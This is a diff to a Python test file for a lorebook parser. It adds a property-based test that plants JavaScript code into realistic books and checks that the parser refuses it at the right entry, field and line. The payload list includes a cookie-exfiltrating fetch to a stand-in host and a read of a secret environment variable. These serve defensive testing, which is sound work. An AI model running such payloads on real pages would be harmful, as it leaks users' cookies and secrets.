@@ -11,7 +11,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from janitor_spelling import SPELLINGS, Style, script, spell
+from janitor_spelling import SPELLINGS, Code, Style, script, spell
 from lorescan.errors import FormatError, LorebookError
 from lorescan.formats import DEFAULT_LIMITS, convert, detect_format, load, load_data
 from lorescan.formats._jsliteral import parse_literal
@@ -177,6 +177,30 @@ def test_code_in_the_literal_is_refused_with_its_location(entry_text, column, fi
     exc = refusal(_entry_script(entry_text))
     assert exc.source == "lore.js" and exc.entry == 1 and exc.field == field
     assert f"line 4 column {column}:" in exc.problem and what in exc.problem
+
+
+_PAYLOADS = [("fetch('https://x.example/' + document.cookie)", "function call"),
+             ("(() => steal())()", "arrow function"), ("`${process.env.SECRET}`", "template substitution"),
+             ("{get text() { return steal(); }}", "getter"), ("{[steal()]: 1}", "computed key"),
+             ("globalThis.secret", "identifier reference"), ("new Function('return 1')()", "constructor")]
+
+
+@settings(max_examples=80, deadline=None)
+@given(index=st.integers(0, len(REALISTIC) - 1), data=st.data())
+def test_code_planted_anywhere_in_a_realistic_book_is_refused_at_its_entry_and_field(index, data):
+    name, book = REALISTIC[index]
+    entry = data.draw(st.integers(0, len(book) - 1))
+    field = data.draw(st.sampled_from(sorted(book[entry])))
+    payload, what = data.draw(st.sampled_from(_PAYLOADS))
+    planted = [dict(e) for e in book]
+    planted[entry][field] = Code(payload)
+    text = script(planted, SPELLINGS["everything"], data.draw(st.integers(0, 2**16)))
+    with pytest.raises(FormatError) as info:
+        read(text)
+    exc = info.value
+    assert (exc.entry, exc.field) == (entry, field) and what in exc.problem, (name, exc)
+    line = text.count("\n", 0, text.index(payload)) + 1
+    assert f"line {line} column" in exc.problem
 
 
 def test_a_call_on_the_array_is_refused():
